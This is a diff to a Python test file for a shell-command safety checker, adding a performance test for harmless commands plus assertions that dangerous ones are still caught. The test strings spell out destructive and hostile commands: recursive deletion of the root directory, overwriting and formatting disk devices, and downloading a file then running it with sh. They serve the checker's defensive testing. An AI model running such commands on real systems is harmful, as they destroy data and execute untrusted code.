@@ -131,6 +131,19 @@ def test_an_ordinary_command_is_not_put_to_every_rule():
     check("all", text)  # patterns compiled, caches filled: not the text's work
     on_top = work(lambda: check("all", text)) - work(lambda: tokenize(text))
     assert on_top < 350 * 2000
+
+
+@pytest.mark.parametrize("unit", ["ls -l a b; ", "a; ", "((1)) ", "w1 ;| "])
+def test_an_inert_command_is_passed_as_it_stands(unit):
+    """A command no rule judges, with no code, redirection or assignment in it, that hands nothing on: each was
+    walked as any other (about 250 lines of Python on top of reading it, the guard at 2.5-4.5 s per MB on such
+    scripts), now yielded as it stands (about 120)."""
+    text = "rm x; " + unit * 2000
+    check("all", text)
+    assert work(lambda: check("all", text)) - work(lambda: tokenize(text)) < 170 * 2000
+    assert check("all", unit * 3 + "X=/; " + unit + "rm -rf $X").rule == "rm-recursive-root"
+    assert check("all", unit * 3 + "cd /; " + unit + "rm -rf *").rule == "rm-recursive-root"
+    assert check("all", unit * 3 + "curl -o f http://x; " + unit + "sh f").rule == "pipe-to-shell"
     assert check("all", "ls -l; /bin/rm -rf /").rule == "rm-recursive-root"
     assert check("all", "ls; cat x > /dev/sda").rule == "redirect-device"
     assert check("all", "ls; mkfs.ext4 /dev/sda1").rule == "mkfs-device"
